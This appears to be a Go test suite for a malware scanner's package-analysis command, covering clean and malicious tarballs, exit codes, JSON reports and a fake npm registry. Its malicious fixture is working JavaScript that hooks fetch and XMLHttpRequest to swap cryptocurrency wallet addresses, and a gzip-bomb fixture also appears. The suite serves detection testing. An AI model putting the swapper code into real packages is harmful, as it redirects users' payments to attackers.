package cli

import (
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/vigil-sec/vigil/internal/tarball/tarballtest"
)

func writeTgz(t *testing.T, files map[string]string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "pkg.tgz")
	if err := os.WriteFile(p, tarballtest.Pack(t, files), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func manifest(name, version string) string {
	return `{"name":"` + name + `","version":"` + version + `","main":"index.js","license":"MIT"}`
}

var benignFiles = map[string]string{
	"package.json": manifest("tiny-pad", "1.0.0"),
	"index.js": `'use strict';
module.exports = function pad(s, n, c) {
  s = String(s); c = c || ' ';
  while (s.length < n) s = c + s;
  return s;
};
`,
}

// A synthetic address swapper written for these tests (not taken from any
// real package): it wraps the page's fetch and XMLHttpRequest.open, holds
// address lists per chain and replaces each address it sees by the most
// similar one of its own.
const syntheticSwapper = `
const wallets = {
  eth: ["0x1111111111111111111111111111111111111111", "0x2222222222222222222222222222222222222222", "0x3333333333333333333333333333333333333333"],
  trx: ["TXYZabcdefghijkmnopqrstuvwxyz12345", "TQRSabcdefghijkmnopqrstuvwxyz12345"]
};
const shapes = { eth: /0x[a-fA-F0-9]{40}/g, trx: /T[1-9A-HJ-NP-Za-km-z]{33}/g };
function distance(a, b) {
  const d = [];
  for (let i = 0; i <= a.length; i++) { d[i] = [i]; for (let j = 1; j <= b.length; j++) { d[i][j] = i === 0 ? j : Math.min(d[i-1][j] + 1, d[i][j-1] + 1, d[i-1][j-1] + (a[i-1] === b[j-1] ? 0 : 1)); } }
  return d[a.length][b.length];
}
function nearest(addr, list) { return list.slice().sort((x, y) => distance(addr, x) - distance(addr, y))[0]; }
function rewrite(text) {
  for (const k of Object.keys(shapes)) text = text.replace(shapes[k], (m) => nearest(m, wallets[k]));
  return text;
}
const origFetch = window.fetch;
window.fetch = async function (...args) {
  const res = await origFetch.apply(this, args);
  const body = await res.clone().text();
  return new Response(rewrite(body), res);
};
const origOpen = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function (method, url) {
  this.addEventListener("load", function () { this._swapped = rewrite(this.responseText); });
  return origOpen.apply(this, arguments);
};
`

var maliciousFiles = map[string]string{
	"package.json": manifest("tiny-swap", "2.0.0"),
	"index.js":     syntheticSwapper,
}

// bombTgz is a gzip bomb: one file of zeros, far beyond the compression
// ratio the tarball reader accepts.
func bombTgz(t *testing.T) string {
	t.Helper()
	return writeTgz(t, map[string]string{"package.json": manifest("bomb", "1.0.0"), "zeros.bin": string(make([]byte, 8<<20))})
}

func TestAnalyzeTarballVerdicts(t *testing.T) {
	code, out, errs := run(t, "analyze", writeTgz(t, benignFiles))
	if code != ExitClean || !strings.Contains(out, "tiny-pad@1.0.0  CLEAN  score 0") {
		t.Fatalf("benign: exit %d, stderr %s\n%s", code, errs, out)
	}
	code, out, errs = run(t, "analyze", writeTgz(t, maliciousFiles))
	if code != ExitFindings {
		t.Fatalf("malicious: exit %d, want %d; stderr %s\n%s", code, ExitFindings, errs, out)
	}
	for _, want := range []string{"tiny-swap@2.0.0  MALICIOUS  score ", "VGL-A010", "index.js:", "fetch", "XMLHttpRequest.prototype.open", "score:", "combination ", "integrity: sha512-"} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
}

func TestAnalyzeFailOn(t *testing.T) {
	benign, bad := writeTgz(t, benignFiles), writeTgz(t, maliciousFiles)
	tests := []struct {
		args []string
		want int
	}{
		{[]string{benign}, ExitClean},
		{[]string{benign, "--fail-on", "clean"}, ExitFindings},
		{[]string{benign, "--fail-on", "suspicious"}, ExitClean},
		{[]string{bad, "--fail-on", "none"}, ExitClean},
		{[]string{bad, "--fail-on", "suspicious"}, ExitFindings},
		{[]string{benign, bad}, ExitFindings},
		{[]string{benign, "--fail-on", "high"}, ExitUsage},
		{[]string{benign, "--format", "markdown"}, ExitUsage},
		{[]string{filepath.Join(t.TempDir(), "missing.tgz")}, ExitUsage},
		{[]string{"not a target"}, ExitUsage},
		{[]string{"debug@"}, ExitUsage},
		{nil, ExitUsage},
	}
	for _, tt := range tests {
		code, out, errs := run(t, append([]string{"analyze"}, tt.args...)...)
		if code != tt.want {
			t.Errorf("analyze %v: exit %d, want %d; stderr %s\n%s", tt.args, code, tt.want, errs, out)
		}
	}
}

func TestAnalyzeUnreadableTarget(t *testing.T) {
	bomb, benign := bombTgz(t), writeTgz(t, benignFiles)
	// The others still run; the unreadable one is reported, and counts as
	// suspicious.
	code, out, errs := run(t, "analyze", bomb, benign)
	if code != ExitClean {
		t.Fatalf("exit %d, want %d (default --fail-on malicious); stderr %s", code, ExitClean, errs)
	}
	if !strings.Contains(out, "ERROR  (counts as suspicious)") || !strings.Contains(out, "compression ratio") || !strings.Contains(out, "tiny-pad@1.0.0  CLEAN") {
		t.Errorf("report:\n%s", out)
	}
	if !strings.Contains(errs, "could not be analysed") {
		t.Errorf("stderr does not mention the unreadable target: %s", errs)
	}
	if code, _, _ := run(t, "analyze", bomb, benign, "--fail-on", "suspicious"); code != ExitFindings {
		t.Errorf("--fail-on suspicious: exit %d, want %d", code, ExitFindings)
	}
	if code, _, errs := run(t, "analyze", bomb); code != ExitUnexpected || !strings.Contains(errs, "no target could be analysed") {
		t.Errorf("only an unreadable target: exit %d, want %d; stderr %s", code, ExitUnexpected, errs)
	}
	code, out, _ = run(t, "analyze", bomb, "--format", "json", "--fail-on", "none")
	var doc analyzeDoc
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != ExitUnexpected {
		t.Fatalf("exit %d, %v:\n%s", code, err, out)
	}
	if r := doc.Reports[0]; r.Status != "error" || r.Error == "" || r.Verdict != "" {
		t.Errorf("unreadable target in JSON: %+v", r)
	}
}

type analyzeDoc struct {
	SchemaVersion string `json:"schema_version"`
	Reports       []struct {
		Target   string `json:"target"`
		Kind     string `json:"kind"`
		Status   string `json:"status"`
		Error    string `json:"error"`
		Package  string `json:"package"`
		Version  string `json:"version"`
		Verdict  string `json:"verdict"`
		Score    int    `json:"score"`
		Findings []struct {
			Rule     string `json:"rule"`
			Severity string `json:"severity"`
			File     string `json:"file"`
			Line     int    `json:"line"`
			Evidence string `json:"evidence"`
		} `json:"findings"`
		Reasons []struct {
			Source string `json:"source"`
			Points int    `json:"points"`
		} `json:"reasons"`
		Stats struct {
			Files int `json:"files"`
		} `json:"stats"`
		Fetch *struct {
			TarballURL string `json:"tarball_url"`
			Integrity  string `json:"integrity"`
			Verified   bool   `json:"verified"`
			Unlisted   bool   `json:"unlisted"`
			Note       string `json:"note"`
		} `json:"fetch"`
	} `json:"reports"`
}

func TestAnalyzeJSON(t *testing.T) {
	outFile := filepath.Join(t.TempDir(), "report.json")
	code, stdout, errs := run(t, "analyze", writeTgz(t, benignFiles), writeTgz(t, maliciousFiles), "--format", "json", "--output", outFile)
	if code != ExitFindings || stdout != "" {
		t.Fatalf("exit %d, stdout %q, stderr %s", code, stdout, errs)
	}
	data, err := os.ReadFile(outFile)
	if err != nil {
		t.Fatal(err)
	}
	var doc analyzeDoc
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("JSON does not parse: %v\n%s", err, data)
	}
	if doc.SchemaVersion != "1.1" || len(doc.Reports) != 2 {
		t.Fatalf("document: %s", data)
	}
	b, m := doc.Reports[0], doc.Reports[1]
	if b.Package != "tiny-pad" || b.Verdict != "clean" || b.Status != "analysed" || b.Kind != "tarball" || b.Findings == nil || b.Stats.Files != 2 {
		t.Errorf("benign report: %+v", b)
	}
	if m.Package != "tiny-swap" || m.Version != "2.0.0" || m.Verdict != "malicious" || m.Score < 40 || len(m.Reasons) == 0 {
		t.Errorf("malicious report: %+v", m)
	}
	located := false
	for _, f := range m.Findings {
		located = located || (f.Rule != "" && f.File == "index.js" && f.Line > 0)
	}
	if !located {
		t.Errorf("no finding with file and line: %+v", m.Findings)
	}
	if !strings.Contains(string(data), `"findings": [`) {
		t.Errorf("findings must be an array even when empty")
	}
}

func TestAnalyzeFolder(t *testing.T) {
	dir := t.TempDir()
	for name, data := range maliciousFiles {
		writeFile(t, filepath.Join(dir, name), data)
	}
	code, out, errs := run(t, "analyze", dir)
	if code != ExitFindings || !strings.Contains(out, "tiny-swap@2.0.0  MALICIOUS") || !strings.Contains(out, "(folder)") {
		t.Fatalf("exit %d, stderr %s\n%s", code, errs, out)
	}
}

// fakeNPM serves packuments at /<name> and tarballs at /<name>/-/<file>, in
// the registry's format; tarball URLs in the packument point at
// registry.npmjs.org, as real ones do, and the client rewrites them.
type fakeNPM struct {
	mu       sync.Mutex
	docs     map[string][]byte
	tarballs map[string][]byte
	requests []string
}

func sri(data []byte) string {
	sum := sha512.Sum512(data)
	return "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

func newFakeNPM(t *testing.T) (*fakeNPM, string) {
	t.Helper()
	f := &fakeNPM{docs: map[string][]byte{}, tarballs: map[string][]byte{}}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		defer f.mu.Unlock()
		f.requests = append(f.requests, r.URL.Path)
		var body []byte
		if strings.Contains(r.URL.Path, "/-/") {
			body = f.tarballs[r.URL.Path]
			w.Header().Set("Content-Type", "application/octet-stream")
		} else {
			body = f.docs[strings.TrimPrefix(r.URL.Path, "/")]
			w.Header().Set("Content-Type", "application/json")
		}
		if body == nil {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusNotFound)
			_, _ = w.Write([]byte(`{"error":"Not found"}`))
			return
		}
		_, _ = w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return f, srv.URL + "/"
}

// publish lists tarballs in name's packument; extra tarballs are served
// at their conventional URL without being listed (unpublished versions).
func (f *fakeNPM) publish(t *testing.T, name string, listed, unlisted map[string][]byte) {
	t.Helper()
	versions := map[string]any{}
	times := map[string]string{"created": "2025-09-01T10:00:00.000Z", "modified": "2025-09-08T13:00:00.000Z"}
	latest := ""
	for v, tgz := range listed {
		file := "/" + name + "/-/" + name + "-" + v + ".tgz"
		f.tarballs[file] = tgz
		versions[v] = map[string]any{
			"name": name, "version": v, "main": "index.js", "license": "MIT",
			"_id": name + "@" + v, "_npmVersion": "10.9.0", "_nodeVersion": "22.11.0",
			"_npmUser":    map[string]string{"name": "alice", "email": "alice@example.com"},
			"maintainers": []map[string]string{{"name": "alice", "email": "alice@example.com"}},
			"dist":        map[string]any{"integrity": sri(tgz), "tarball": "https://registry.npmjs.org" + file, "fileCount": 2, "unpackedSize": len(tgz)},
		}
		times[v] = "2025-09-01T10:00:00.000Z"
		latest = v
	}
	for v, tgz := range unlisted {
		f.tarballs["/"+name+"/-/"+name+"-"+v+".tgz"] = tgz
	}
	doc, err := json.Marshal(map[string]any{
		"_id": name, "name": name, "dist-tags": map[string]string{"latest": latest},
		"versions": versions, "time": times, "license": "MIT",
		"maintainers": []map[string]string{{"name": "alice", "email": "alice@example.com"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	f.docs[name] = doc
}

func TestAnalyzeRegistry(t *testing.T) {
	fake, url := newFakeNPM(t)
	benign := tarballtest.Pack(t, map[string]string{"package.json": manifest("tiny-pad", "1.0.0"), "index.js": benignFiles["index.js"]})
	bad := tarballtest.Pack(t, map[string]string{"package.json": manifest("tiny-pad", "1.0.1"), "index.js": syntheticSwapper})
	fake.publish(t, "tiny-pad", map[string][]byte{"1.0.0": benign}, map[string][]byte{"1.0.1": bad})

	t.Run("listed", func(t *testing.T) {
		code, out, errs := run(t, "analyze", "--registry", url, "tiny-pad@1.0.0")
		if code != ExitClean {
			t.Fatalf("exit %d, stderr %s\n%s", code, errs, out)
		}
		for _, want := range []string{"tiny-pad@1.0.0  CLEAN", "verified against the packument's dist.integrity", "integrity: " + sri(benign)} {
			if !strings.Contains(out, want) {
				t.Errorf("lacks %q:\n%s", want, out)
			}
		}
		if strings.Contains(out, "UNVERIFIED") {
			t.Errorf("listed version reported unverified:\n%s", out)
		}
	})

	t.Run("unlisted", func(t *testing.T) {
		t.Setenv("VIGIL_REGISTRY", url) // the environment names the registry
		code, out, errs := run(t, "analyze", "tiny-pad@1.0.1")
		if code != ExitFindings {
			t.Fatalf("exit %d, stderr %s\n%s", code, errs, out)
		}
		for _, want := range []string{"tiny-pad@1.0.1  MALICIOUS", "UNVERIFIED", "conventional URL", "could not be verified against a packument", "/tiny-pad/-/tiny-pad-1.0.1.tgz"} {
			if !strings.Contains(out, want) {
				t.Errorf("lacks %q:\n%s", want, out)
			}
		}
		code, out, _ = run(t, "analyze", "tiny-pad@1.0.1", "--format", "json")
		var doc analyzeDoc
		if err := json.Unmarshal([]byte(out), &doc); err != nil || code != ExitFindings {
			t.Fatalf("exit %d, %v\n%s", code, err, out)
		}
		fi := doc.Reports[0].Fetch
		if fi == nil || !fi.Unlisted || fi.Verified || fi.Integrity != sri(bad) || doc.Reports[0].Kind != "registry" || !strings.Contains(fi.Note, "conventional URL") {
			t.Errorf("fetch info: %+v", fi)
		}
	})

	t.Run("missing", func(t *testing.T) {
		code, out, errs := run(t, "analyze", "--registry", url, "tiny-pad@9.9.9", "--fail-on", "suspicious")
		if code != ExitFindings || !strings.Contains(out, "ERROR") {
			t.Fatalf("exit %d, stderr %s\n%s", code, errs, out)
		}
	})
}

// TestAnalyzeCorpus runs analyze on a real malicious release from the
// shared corpus, read as data only.
func TestAnalyzeCorpus(t *testing.T) {
	p := filepath.Join("..", "..", "..", "shared", "corpus", "malicious", "debug@4.4.2.tgz")
	if _, err := os.Stat(p); err != nil {
		t.Skipf("../shared/corpus is not present (%v): skipping the real-malware check", err)
	}
	code, out, errs := run(t, "analyze", p)
	if code != ExitFindings || !strings.Contains(out, "debug@4.4.2  MALICIOUS") {
		t.Fatalf("exit %d, want %d; stderr %s\n%s", code, ExitFindings, errs, out)
	}
}
